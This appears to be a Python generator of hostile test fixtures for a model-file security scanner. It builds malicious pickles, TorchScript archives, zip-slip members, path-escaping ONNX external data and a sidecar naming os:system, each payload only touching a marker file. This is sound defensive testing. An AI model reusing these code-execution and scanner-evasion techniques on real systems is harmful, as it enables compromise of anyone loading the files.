"""Generate the hostile corpus: `build(root)` writes one folder per case under `root`.

Every code-execution payload only creates its case's marker file (`<root>/<case>/MARKER`) if it ever
runs: `touch MARKER` for shell primitives, `open(MARKER, 'w').close()` for Python ones. Secrets that
external-data paths try to reach are dummy files under `root`. Pickles are hand-assembled from
opcodes (see `pickletools`), so each trick is explicit.

    python tests/hostile/corpus.py OUT_DIR     # write the corpus and list the cases
"""

from __future__ import annotations

import io
import json
import shutil
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "fixtures" / "models"
ARCH_ARGS = ("--arch", "auditor.zoo:small_cnn", "--input-size", "1,28,28")


@dataclass(frozen=True)
class Case:
    name: str
    group: str  # pickle | zip | torchscript | onnx | safetensors | file | metadata | weights | data | limits
    expect: str  # a word the one-line error must contain (compared lower-case)
    file_problem: bool  # the serialization-safety check must fail or error on the model file
    live: bool  # loading the file with pickle / np.load(allow_pickle=True) creates the marker
    filename: str  # the model file inside the case folder
    data: str | None  # --data, relative to the case folder
    args: tuple[str, ...]  # command-line options besides MODEL, --data and the report paths
    build: Callable[[Path, Path], None]  # build(case_dir, marker)
    names: str | None = None  # the file the error line must name (relative); default: data or model

    def folder(self, root: Path) -> Path:
        return root / self.name

    def model(self, root: Path) -> Path:
        return self.folder(root) / self.filename

    def marker(self, root: Path) -> Path:
        return self.folder(root) / "MARKER"

    def named(self, root: Path) -> Path:
        return self.folder(root) / (self.names or self.data or self.filename)

    def cli_args(self, root: Path, out: Path) -> list[str]:
        args = ["scan", str(self.model(root)), *self.args, "-q", "--output-dir", str(out),
                "--html", str(out / "r.html"), "--json", str(out / "r.json")]
        if self.data:
            args += ["--data", str(self.folder(root) / self.data)]
        return args


CASES: list[Case] = []


def case(name: str, group: str, expect: str, *, file_problem: bool = True, live: bool = False,
         filename: str = "model.pt", data: str | None = None, args: tuple[str, ...] = ARCH_ARGS,
         names: str | None = None):
    def register(build):
        CASES.append(Case(name, group, expect, file_problem, live, filename, data, args, build, names))
        return build

    return register


def build(root: Path, names: set[str] | None = None) -> list[Case]:
    """Write the corpus (or the named cases) under `root`; returns the cases written."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "secret.bin").write_bytes(b"SECRET" * 64)  # what escaping external-data paths point at
    chosen = [c for c in CASES if names is None or c.name in names]
    for c in chosen:
        c.folder(root).mkdir()
        c.build(c.folder(root), c.marker(root))
    return chosen


# ---------------------------------------------------------------- pickle assembly

PROTO2, PROTO4, STOP = b"\x80\x02", b"\x80\x04", b"."
MARK, TUPLE, TUPLE1, REDUCE, EMPTY_DICT, EMPTY_LIST, APPENDS = b"(", b"t", b"\x85", b"R", b"}", b"]", b"e"


def u(text: str) -> bytes:
    """BINUNICODE (protocol 1+): a str operand."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def su(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4); BINUNICODE when too long for it."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else u(text)


def binbytes(data: bytes) -> bytes:
    """BINBYTES (protocol 3)."""
    return b"B" + struct.pack("<I", len(data)) + data


def v(text: str) -> bytes:
    """UNICODE (protocol 0): raw-unicode-escape, one line."""
    return b"V" + text.encode("raw_unicode_escape") + b"\n"


def glob0(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0): module and name on lines of their own."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): both operands from the stack."""
    return su(module) + su(name) + b"\x93"


def call(func: bytes, *args: bytes) -> bytes:
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def shell(marker: Path) -> str:
    return f"touch {marker}"


def python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def os_system(marker: Path) -> bytes:
    return PROTO2 + call(glob0("os", "system"), u(shell(marker))) + STOP


def _pickle_case(name: str, live: bool = True):
    """A raw pickle file (model.pt); `payload(marker)` returns its bytes."""
    def register(payload):
        case(name, "pickle", "refused", live=live)(lambda folder, marker: (folder / "model.pt").write_bytes(payload(marker)))
        return payload

    return register


@_pickle_case("os_system")
def _os_system(marker):
    return os_system(marker)


@_pickle_case("subprocess_popen")
def _popen(marker):
    argv = EMPTY_LIST + MARK + u("touch") + u(str(marker)) + APPENDS
    return PROTO4 + call(stack_global("subprocess", "Popen"), argv) + STOP


@_pickle_case("builtins_exec")
def _exec(marker):
    return PROTO2 + call(glob0("builtins", "exec"), u(python(marker))) + STOP


@_pickle_case("builtins_eval")
def _eval(marker):
    return PROTO2 + call(glob0("builtins", "eval"), u(python(marker))) + STOP


@_pickle_case("getattr_chain")
def _getattr_chain(marker):
    # getattr(__import__('builtins'), 'exec')(code): no dangerous name appears as a global
    builtins_module = call(stack_global("builtins", "__import__"), su("builtins"))
    exec_ = call(stack_global("builtins", "getattr"), builtins_module, su("exec"))
    return PROTO4 + call(exec_, su(python(marker))) + STOP


@_pickle_case("dotted_name_chain")
def _dotted(marker):
    # protocol 4 resolves "os.system" as an attribute chain of the innocent-looking module
    return PROTO4 + call(stack_global("torch.serialization", "os.system"), su(shell(marker))) + STOP


@_pickle_case("runpy_run_code")
def _runpy(marker):
    return PROTO2 + call(glob0("runpy", "_run_code"), u(python(marker)), EMPTY_DICT) + STOP


@_pickle_case("webbrowser_open", live=False)
def _webbrowser(marker):
    return PROTO2 + call(glob0("webbrowser", "open"), u(f"file://{marker}")) + STOP


@_pickle_case("nested_pickle_loads")
def _nested(marker):
    inner = os_system(marker)
    return PROTO4 + call(glob0("pickle", "loads"), binbytes(inner)) + STOP


@_pickle_case("torch_collect_env_run")
def _collect_env(marker):
    return PROTO2 + call(glob0("torch.utils.collect_env", "run"), u(shell(marker))) + STOP


@_pickle_case("multiprocessing_spawnv_passfds")
def _spawnv(marker):
    touch = (shutil.which("touch") or "/usr/bin/touch").encode()
    argv = EMPTY_LIST + MARK + u("touch") + u(str(marker)) + APPENDS
    # the executable must be bytes; EMPTY_TUPLE: no file descriptors passed
    return PROTO4 + call(glob0("multiprocessing.util", "spawnv_passfds"), binbytes(touch), argv, b")") + STOP


@_pickle_case("pandas_read_csv", live=False)
def _pandas(marker):
    return PROTO2 + call(glob0("pandas", "read_csv"), u(str(marker))) + STOP


@_pickle_case("memo_stack_global")
def _memo(marker):
    # operands memoised, buried under decoys and popped, then fetched back for STACK_GLOBAL
    return (PROTO4 + su("os") + b"\x94" + b"0" + su("collections") + b"0" + su("system") + b"q\x05" + b"0"
            + su("torch") + su("Size") + b"0" + b"0" + b"h\x00h\x05\x93" + su(shell(marker)) + TUPLE1 + REDUCE + STOP)


@_pickle_case("inst_opcode")
def _inst(marker):
    return MARK + v(shell(marker)) + b"i" + b"os\nsystem\n" + STOP  # protocol 0, no PROTO header


@_pickle_case("obj_opcode")
def _obj(marker):
    return MARK + glob0("os", "system") + v(shell(marker)) + b"o" + STOP


@_pickle_case("reduce_after_build")
def _after_build(marker):
    # the callable is memoised first; an innocent OrderedDict is built in between
    return (PROTO2 + glob0("os", "system") + b"q\x00" + b"0"
            + glob0("collections", "OrderedDict") + b")" + REDUCE + EMPTY_DICT + b"b" + b"0"
            + b"h\x00" + MARK + u(shell(marker)) + TUPLE + REDUCE + STOP)


@_pickle_case("protocol0_global")
def _proto0(marker):
    return glob0("os", "system") + MARK + v(shell(marker)) + TUPLE + REDUCE + STOP


@_pickle_case("compat_builtin_eval")
def _compat(marker):
    # protocol 2 maps the Python 2 module name __builtin__ to builtins (fix_imports)
    return PROTO2 + call(glob0("__builtin__", "eval"), u(python(marker))) + STOP


@_pickle_case("appended_second_pickle", live=False)
def _appended(marker):
    clean = PROTO2 + glob0("collections", "OrderedDict") + b")" + REDUCE + STOP
    return clean + os_system(marker)


@_pickle_case("ext_registry_opcode", live=False)
def _ext(marker):
    return PROTO2 + b"\x82\x01" + MARK + u(shell(marker)) + TUPLE + REDUCE + STOP


# ---------------------------------------------------------------- PyTorch zip archives

def clean_zip_members() -> list[tuple[str, bytes]]:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.arange(4.0)}, buf)
    with zipfile.ZipFile(buf) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def write_zip(members: list[tuple[str, bytes]], compress: dict[str, int] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=(compress or {}).get(name, zipfile.ZIP_STORED))
    return buf.getvalue()


def set_flag_bits(data: bytes, member: str, bits: int) -> bytes:
    """OR general-purpose flag bits into a member's local and central headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info, pos = zf.getinfo(member), zf.start_dir
    local = info.header_offset
    out[local + 6 : local + 8] = struct.pack("<H", struct.unpack("<H", out[local + 6 : local + 8])[0] | bits)
    while out[pos : pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack("<HHH", out[pos + 28 : pos + 34])
        if out[pos + 46 : pos + 46 + n].decode() == member:
            out[pos + 8 : pos + 10] = struct.pack("<H", struct.unpack("<H", out[pos + 8 : pos + 10])[0] | bits)
        pos += 46 + n + m + k
    return bytes(out)


def evil_zip(marker: Path, rename: str = "archive/data.pkl") -> bytes:
    return write_zip([(rename if n == "archive/data.pkl" else n, os_system(marker) if n == "archive/data.pkl" else d)
                      for n, d in clean_zip_members()])


def _zip_case(name: str, expect: str = "refused", filename: str = "model.pt"):
    def register(payload):
        case(name, "zip", expect, filename=filename)(lambda folder, marker: (folder / filename).write_bytes(payload(marker)))
        return payload

    return register


@_zip_case("zip_evil_data_pkl")
def _zip_evil(marker):
    return evil_zip(marker)


for _suffix in ("bin", "pth", "ckpt", "onnx"):
    _zip_case(f"zip_evil_named_{_suffix}", filename=f"model.{_suffix}")(evil_zip)


@_zip_case("zip_encrypted_flag")
def _zip_encrypted(marker):
    return set_flag_bits(evil_zip(marker), "archive/data.pkl", 0x0001)


@_zip_case("zip_data_descriptor_flag")
def _zip_descriptor(marker):
    return set_flag_bits(evil_zip(marker), "archive/data.pkl", 0x0008 | 0x0800)


@_zip_case("zip_extra_evil_member")
def _zip_extra(marker):
    return write_zip(clean_zip_members() + [("archive/extra/evil.pkl", os_system(marker))])


@_zip_case("zip_appended_pickle_in_data_pkl")
def _zip_appended(marker):
    return write_zip([(n, d + os_system(marker) if n == "archive/data.pkl" else d) for n, d in clean_zip_members()])


@_zip_case("zip_duplicate_data_pkl")
def _zip_duplicate(marker):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        return write_zip(clean_zip_members() + [("archive/data.pkl", os_system(marker))])


@_zip_case("zip_uppercase_data_pkl")
def _zip_upper(marker):
    # torch's zip reader finds records case-insensitively: this IS the checkpoint's data.pkl
    return evil_zip(marker, rename="archive/DATA.PKL")


@_zip_case("zip_empty_member_name")
def _zip_empty_name(marker):
    return write_zip(clean_zip_members() + [("", os_system(marker))])


@_zip_case("zip_deflated_data_pkl")
def _zip_deflated(marker):
    members = [(n, os_system(marker) if n == "archive/data.pkl" else d) for n, d in clean_zip_members()]
    return write_zip(members, {"archive/data.pkl": zipfile.ZIP_DEFLATED})


@_zip_case("polyglot_pickle_then_zip")
def _polyglot(marker):
    return os_system(marker) + write_zip(clean_zip_members())


@_zip_case("polyglot_no_proto_header")
def _polyglot_bare(marker):
    # a pickle needs no PROTO opcode: this prefix starts with SHORT_BINUNICODE
    return call(stack_global("os", "system"), su(shell(marker))) + STOP + write_zip(clean_zip_members())


@_zip_case("zip_truncated", expect="truncated")
def _zip_truncated(marker):
    data = write_zip(clean_zip_members())
    return data[: len(data) // 2]


# ---------------------------------------------------------------- TorchScript

def torchscript_members() -> list[tuple[str, bytes]]:
    import warnings

    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit is deprecated
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buf)
    with zipfile.ZipFile(buf) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


@case("torchscript_extra_evil_member", "torchscript", "refused")
def _ts_extra(folder, marker):
    (folder / "model.pt").write_bytes(write_zip(torchscript_members() + [("archive/extra/evil.pkl", os_system(marker))]))


@case("torchscript_evil_constants", "torchscript", "refused")
def _ts_constants(folder, marker):
    members = [(n, os_system(marker) if n.endswith("constants.pkl") else d) for n, d in torchscript_members()]
    (folder / "model.pt").write_bytes(write_zip(members))


def scripted_archive(module) -> bytes:
    import warnings

    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit is deprecated
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(module), buf)
    return buf.getvalue()


def _saving_modules(marker: Path) -> dict:
    """TorchScript modules that write the marker with torch.save from where torch would run them."""
    import torch
    from torch import nn

    class Head(nn.Module):
        def __init__(self):
            super().__init__()
            self.flat = nn.Flatten()
            self.fc = nn.Linear(784, 10)
            self.path = str(marker)

    class SetState(Head):  # the case: torch.jit.load itself calls __setstate__
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.fc(self.flat(x))

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.path, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            torch.save(torch.zeros(1), state[0])
            self.path = state[0]
            self.training = state[1]

    class Forward(Head):  # runs on the first forward: the loads-and-runs probe
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(torch.zeros(1), self.path)
            return self.fc(self.flat(x))

    class Exported(Head):  # an exported method nobody calls while auditing
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.fc(self.flat(x))

        @torch.jit.export
        def calibrate(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, self.path)
            return x

    class Forked(Head):  # the write happens on another interpreter thread
        def write(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, self.path)
            return x

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            future = torch.jit.fork(self.write, x)
            return self.fc(self.flat(torch.jit.wait(future)))

    return {"setstate": SetState, "forward": Forward, "exported": Exported, "fork": Forked}


def _ts_case(name: str, kind: str, edit: Callable[[str], str] | None = None, expect: str = "refused"):
    """A live TorchScript payload; `edit` rewrites its code files as an attacker would by hand."""

    def build_ts(folder, marker):
        data = scripted_archive(_saving_modules(marker)[kind]())
        if edit is not None:
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                members = [(i.filename, edit(zf.read(i).decode()).encode() if i.filename.endswith(".py") else zf.read(i))
                           for i in zf.infolist()]
            data = write_zip(members)
        (folder / "model.pt").write_bytes(data)

    case(name, "torchscript", expect, live=True)(build_ts)


_ts_case("torchscript_setstate_saves_file", "setstate", expect="__setstate__")
_ts_case("torchscript_forward_saves_file", "forward", expect="torch.save")
_ts_case("torchscript_exported_method_saves_file", "exported", expect="torch.save")
_ts_case("torchscript_fork_saves_file", "fork", expect="fork")
_ts_case("torchscript_save_through_ops_aten", "forward", edit=lambda code: code.replace("torch.save(", "ops.aten.save("),
         expect="ops.aten.save")
_ts_case("torchscript_save_through_alias", "forward",
         edit=lambda code: code.replace("    torch.save(", "    _write = torch.save\n    _write("), expect="torch.save")


@case("torchscript_setstate_in_uppercase_member", "torchscript", "__setstate__", live=True)
def _ts_upper(folder, marker):
    # torch finds code files case-insensitively: CODE/__TORCH__.PY is the class's source to it
    data = scripted_archive(_saving_modules(marker)["setstate"]())
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        members = [(i.filename.upper() if i.filename.endswith(".py") else i.filename, zf.read(i)) for i in zf.infolist()]
    (folder / "model.pt").write_bytes(write_zip(members))


@case("torchscript_custom_class_global", "torchscript", "refused")
def _ts_custom_class(folder, marker):
    # data.pkl names a C++ custom class: its __setstate__ is native code, whatever the archive's code says
    import re

    # the class may be name-mangled (___torch_mangle_N) when Linear was scripted before in this process
    module_global = re.compile(rb"c__torch__\.torch\.nn\.modules\.linear(\.___torch_mangle_\d+)?\nLinear\n")
    members = []
    for name, data in torchscript_members():
        if name.endswith("data.pkl"):
            data, count = module_global.subn(b"c__torch__.torch.classes.quantized\nLinearPackedParamsBase\n", data, 1)
            assert count == 1, "the scripted Linear's global was not found in data.pkl"
        members.append((name, data))
    (folder / "model.pt").write_bytes(write_zip(members))


# ---------------------------------------------------------------- zip container hygiene


def _member_case(name: str, expect: str, extra_name: str):
    @_zip_case(name, expect=expect)
    def payload(marker):
        return write_zip(clean_zip_members() + [(extra_name, os_system(marker))])

    return payload


_member_case("zip_slip_member", "zip-slip", "archive/../../evil.pkl")
_member_case("zip_absolute_member", "absolute", "/tmp/evil.pkl")
_member_case("zip_backslash_member", "backslash", "archive\\..\\evil.pkl")
_member_case("zip_control_char_member", "control character", "archive/evil\x1b.pkl")
_member_case("zip_case_duplicate_data_pkl", "appears twice", "ARCHIVE/DATA.PKL")


def _patch_local_header(data: bytes, member: str, offset: int, value: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        start = zf.getinfo(member).header_offset
    return data[: start + offset] + value + data[start + offset + len(value):]


@_zip_case("zip_local_header_other_name", expect="local header")
def _zip_header_name(marker):
    # the local header names data.pkl "archive/data.pkX": readers that trust it see another file
    data = evil_zip(marker)
    return _patch_local_header(data, "archive/data.pkl", 30 + len("archive/data.pk"), b"X")


@_zip_case("zip_local_header_other_method", expect="local header")
def _zip_header_method(marker):
    data = write_zip(clean_zip_members())
    return _patch_local_header(data, "archive/data.pkl", 8, struct.pack("<H", 8))  # says deflated, is stored


# ---------------------------------------------------------------- hub folders

def hub_folder(folder: Path, safetensors: bool = True) -> dict:
    """An honest, tiny transformers classifier folder at `folder`; returns its config (each case below
    adds one hostile thing)."""
    import os
    import warnings

    os.environ.setdefault("HF_HUB_OFFLINE", "1")
    import torch
    from transformers import ResNetConfig, ResNetForImageClassification

    torch.manual_seed(0)
    config = ResNetConfig(num_labels=10, depths=[1], hidden_sizes=[8], embedding_size=8, num_channels=1)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ResNetForImageClassification(config).save_pretrained(str(folder), safe_serialization=safetensors)
    return json.loads((folder / "config.json").read_text())


def _hub_case(name: str, expect: str, live: bool = False):
    def register(add):
        def build_hub(folder, marker):
            config = hub_folder(folder / "model")
            add(folder / "model", config, marker)

        case(name, "hub", expect, live=live, filename="model", args=("--input-size", "1,28,28"))(build_hub)
        return add

    return register


@_hub_case("hub_config_auto_map", "remote code", live=True)
def _hub_auto_map(model, config, marker):
    # transformers imports modeling_evil.py when asked to trust remote code: the import writes the marker
    config["auto_map"] = {"AutoModelForImageClassification": "modeling_evil.EvilResNet"}
    (model / "config.json").write_text(json.dumps(config))
    (model / "modeling_evil.py").write_text(python(marker) + "\n")


@_hub_case("hub_config_trust_remote_code", "remote code")
def _hub_trust(model, config, marker):
    config["trust_remote_code"] = True
    (model / "config.json").write_text(json.dumps(config))


@_hub_case("hub_training_args_pickle", "refused", live=True)
def _hub_training_args(model, config, marker):
    (model / "training_args.bin").write_bytes(os_system(marker))  # trainers save these with torch.save


@_hub_case("hub_weights_pickle", "refused", live=True)
def _hub_weights(model, config, marker):
    (model / "model.safetensors").unlink()
    (model / "pytorch_model.bin").write_bytes(evil_zip(marker))


@_hub_case("hub_link_outside_folder", "links outside")
def _hub_link(model, config, marker):
    (model / "notes.txt").symlink_to(model.parent.parent / "secret.bin")


@_hub_case("hub_shard_index_escapes", "not a file of the folder")
def _hub_index(model, config, marker):
    (model / "model.safetensors").rename(model / "model-00001-of-00001.safetensors")
    index = {"metadata": {}, "weight_map": {"resnet.embedder.embedder.convolution.weight": "../../secret.bin"}}
    (model / "model.safetensors.index.json").write_text(json.dumps(index))


# ---------------------------------------------------------------- ONNX

def clean_onnx():
    import onnx

    return onnx.load(str(FIXTURES / "clean_cnn.onnx"))


def external(tensor, location: str, **entries: str) -> None:
    import onnx

    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    for key, value in {"location": location, **entries}.items():
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value


def _onnx_case(name: str, expect: str, file_problem: bool = True):
    def register(mutate):
        def build_onnx(folder, marker):
            model = clean_onnx()
            mutate(model, folder)
            (folder / "model.onnx").write_bytes(model.SerializeToString())

        case(name, "onnx", expect, file_problem=file_problem, filename="model.onnx")(build_onnx)
        return mutate

    return register


@_onnx_case("onnx_external_parent_dir", "outside the model's folder")
def _ext_parent(model, folder):
    external(model.graph.initializer[0], "../secret.bin")


@_onnx_case("onnx_external_absolute", "outside the model's folder")
def _ext_abs(model, folder):
    external(model.graph.initializer[0], str(folder.parent / "secret.bin"))


@_onnx_case("onnx_external_symlink", "outside the model's folder")
def _ext_symlink(model, folder):
    (folder / "weights.bin").symlink_to(folder.parent / "secret.bin")
    external(model.graph.initializer[0], "weights.bin")


@_onnx_case("onnx_external_nul_byte", "outside the model's folder")
def _ext_nul(model, folder):
    external(model.graph.initializer[0], "weights\x00.bin")


@_onnx_case("onnx_external_bad_offset", "malformed external-data offset")
def _ext_offset(model, folder):
    (folder / "weights.bin").write_bytes(bytes(4096))
    external(model.graph.initializer[0], "weights.bin", offset="0x10")


@_onnx_case("onnx_function_external_data", "outside the model's folder")
def _ext_function(model, folder):
    from onnx import TensorProto, helper

    const = helper.make_tensor("c", TensorProto.FLOAT, [4], [0.0] * 4)
    external(const, "../secret.bin")
    model.functions.append(helper.make_function(
        "local", "Unused", ["x"], ["y"],
        [helper.make_node("Constant", [], ["c"], value=const), helper.make_node("Add", ["x", "c"], ["y"])],
        [helper.make_opsetid("", 17)]))


@_onnx_case("onnx_sparse_external_data", "outside the model's folder")
def _ext_sparse(model, folder):
    from onnx import TensorProto, helper

    values = helper.make_tensor("sparse_values", TensorProto.FLOAT, [2], [0.0, 0.0])
    external(values, "../secret.bin")
    indices = helper.make_tensor("sparse_indices", TensorProto.INT64, [2], [0, 1])
    model.graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [4]))


@_onnx_case("onnx_huge_declared_tensor", "declares")
def _huge(model, folder):
    from onnx import TensorProto

    tensor = model.graph.initializer.add()
    tensor.name, tensor.data_type = "huge", TensorProto.FLOAT
    tensor.dims.extend([10**6, 10**6])  # 4 TB declared, no data


@_onnx_case("onnx_custom_op_domain", "custom op domains")
def _custom(model, folder):
    from onnx import helper

    node = model.graph.node[0]
    node.domain = "com.evil.native"
    model.opset_import.append(helper.make_opsetid("com.evil.native", 1))


@_onnx_case("onnx_fails_checker", "checker", file_problem=False)  # invalid, not unsafe: the loader refuses it
def _checker(model, folder):
    model.graph.node[0].input[0] = "no_such_value"


@case("onnx_invalid_utf8_strings", "onnx", "outside the model's folder", filename="model.onnx")
def _onnx_utf8(folder, marker):
    # protobuf returns string fields that are not UTF-8 as bytes: location, domain, op type
    model = clean_onnx()
    external(model.graph.initializer[0], "LOCATION")
    model.graph.node[0].domain, model.graph.node[1].op_type = "DOMAIN", "OPTYPE"
    raw = model.SerializeToString()
    for name in (b"LOCATION", b"DOMAIN", b"OPTYPE"):
        raw = raw.replace(name, b"\xff" + name[1:])
    (folder / "model.onnx").write_bytes(raw)


@case("onnx_truncated", "onnx", "onnx", filename="model.onnx")
def _onnx_truncated(folder, marker):
    data = (FIXTURES / "clean_cnn.onnx").read_bytes()
    (folder / "model.onnx").write_bytes(data[: len(data) // 2])


# ---------------------------------------------------------------- safetensors

def clean_safetensors() -> tuple[dict, bytes]:
    """(header, data area) of the small CNN's weights."""
    import torch
    from safetensors.torch import save

    from auditor.zoo import small_cnn

    torch.manual_seed(0)
    raw = save({k: v.contiguous() for k, v in small_cnn().state_dict().items()})
    (length,) = struct.unpack("<Q", raw[:8])
    return json.loads(raw[8 : 8 + length]), raw[8 + length :]


def pack_safetensors(header: dict | bytes, data: bytes) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def _st_case(name: str, expect: str):
    def register(make):
        case(name, "safetensors", expect, filename="model.safetensors")(
            lambda folder, marker: (folder / "model.safetensors").write_bytes(make(*clean_safetensors())))
        return make

    return register


def _first_tensor(header: dict) -> str:
    return next(k for k in header if k != "__metadata__")


@_st_case("safetensors_offsets_past_end", "past the end")
def _st_past_end(header, data):
    header[_first_tensor(header)]["data_offsets"][1] = len(data) + 10**9
    return pack_safetensors(header, data)


@_st_case("safetensors_overlapping", "corrupt safetensors")
def _st_overlap(header, data):
    names = [k for k in header if k != "__metadata__"]
    header[names[1]]["data_offsets"] = list(header[names[0]]["data_offsets"])
    return pack_safetensors(header, data)


@_st_case("safetensors_deeply_nested_header", "unrecognised")
def _st_deep(header, data):
    return pack_safetensors(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", data)


@_st_case("safetensors_infinite_shape", "corrupt safetensors")
def _st_inf(header, data):
    raw = json.dumps(header, separators=(",", ":")).encode()
    name = _first_tensor(header)
    shape = json.dumps(header[name]["shape"], separators=(",", ":")).encode()
    return pack_safetensors(raw.replace(shape, b"[Infinity]", 1), data)


@_st_case("safetensors_length_field_lies", "unrecognised")
def _st_length(header, data):
    raw = pack_safetensors(header, data)
    return struct.pack("<Q", 2**40) + raw[8:]


@_st_case("safetensors_truncated", "past the end")
def _st_truncated(header, data):
    return pack_safetensors(header, data[: len(data) // 2])


# ---------------------------------------------------------------- other broken files

@case("zero_byte_file", "file", "empty")
def _zero(folder, marker):
    (folder / "model.pt").write_bytes(b"")


@case("legacy_checkpoint_truncated", "file", "truncated")
def _legacy_truncated(folder, marker):
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(1000)}, buf, _use_new_zipfile_serialization=False)
    (folder / "model.pt").write_bytes(buf.getvalue()[:-1000])


@case("random_bytes", "file", "unrecognised")
def _random(folder, marker):
    import random

    rng = random.Random(7)
    (folder / "model.pt").write_bytes(b"\xff" + bytes(rng.randrange(256) for _ in range(4095)))


# ---------------------------------------------------------------- metadata sidecars

def clean_state_dict_file(folder: Path, name: str = "model.pt") -> None:
    shutil.copyfile(FIXTURES / "clean_cnn.pt", folder / name)


def _metadata_case(name: str, expect: str, metadata: dict):
    def build_meta(folder, marker):
        clean_state_dict_file(folder)
        meta = json.loads(json.dumps(metadata).replace("MARKER", str(marker)))
        (folder / "model.json").write_text(json.dumps({"auditor_metadata": 1, **meta}))

    # no --arch: the architecture comes from the sidecar
    case(name, "metadata", expect, file_problem=False, args=(), names="model.json")(build_meta)


_metadata_case("metadata_untrusted_arch", "only auditor.zoo",
               {"arch": {"callable": "os:system", "kwargs": {"command": "touch MARKER"}}})
_metadata_case("metadata_huge_model", "over the limit",
               {"arch": {"callable": "auditor.zoo:small_cnn", "kwargs": {"width": 100_000}}})
_metadata_case("metadata_malformed", "malformed", {"arch": "auditor.zoo:small_cnn", "input": {"channels": "1"}})
_metadata_case("metadata_huge_input", "malformed",
               {"arch": {"callable": "auditor.zoo:small_cnn", "kwargs": {}},
                "input": {"channels": 1, "height": 100_000, "width": 100_000}})


# ---------------------------------------------------------------- weights that do not fit

def _state_case(name: str, expect: str, args: tuple[str, ...] = ARCH_ARGS):
    def register(edit):
        def build_state(folder, marker):
            import torch

            state = torch.load(FIXTURES / "clean_cnn.pt", weights_only=True)
            torch.save(edit(state), folder / "model.pt")

        case(name, "weights", expect, file_problem=False, args=args)(build_state)
        return edit

    return register


@_state_case("nan_weights", "nan or inf")
def _nan(state):
    state["classifier.1.weight"][0, 0] = float("nan")
    return state


@_state_case("inf_weights", "nan or inf")
def _inf(state):
    state["features.0.bias"][3] = float("-inf")
    return state


@_state_case("missing_keys", "missing")
def _missing(state):
    del state["classifier.3.bias"]
    return state


@_state_case("misshaped_keys", "misshaped")
def _misshaped(state):
    import torch

    state["classifier.3.weight"] = torch.zeros(11, 128)
    return state


@_state_case("not_a_state_dict", "expected a state_dict")
def _not_state(state):
    return [1, 2, 3]


@_state_case("input_size_mismatch", "does not run on input",
             args=("--arch", "auditor.zoo:small_cnn", "--input-size", "3,32,32"))
def _input_size(state):
    return state


# ---------------------------------------------------------------- data sets (with the clean model)

def _data_case(name: str, expect: str, data: str, names: str | None = None, live: bool = False):
    def register(make):
        def build_data(folder, marker):
            clean_state_dict_file(folder)
            make(folder, marker)

        case(name, "data", expect, file_problem=False, live=live, data=data, names=names)(build_data)
        return make

    return register


def _npz(path: Path, **arrays) -> None:
    import numpy as np

    np.savez(path, **arrays)


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(bytes(1 + width) * min(height, 4))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


@_data_case("data_empty_folder", "no class folders", "data")
def _d_empty(folder, marker):
    (folder / "data").mkdir()


@_data_case("data_no_images", "contain no images", "data")
def _d_noimages(folder, marker):
    (folder / "data" / "cat").mkdir(parents=True)
    (folder / "data" / "cat" / "notes.txt").write_text("not an image")


@_data_case("data_unreadable_folder", "cannot list", "data")
def _d_unreadable(folder, marker):
    (folder / "data" / "cat").mkdir(parents=True)
    (folder / "data").chmod(0)  # has no effect for root: the test skips the case then


@_data_case("data_npz_labels_out_of_range", "labels span", "data.npz")
def _d_labels(folder, marker):
    import numpy as np

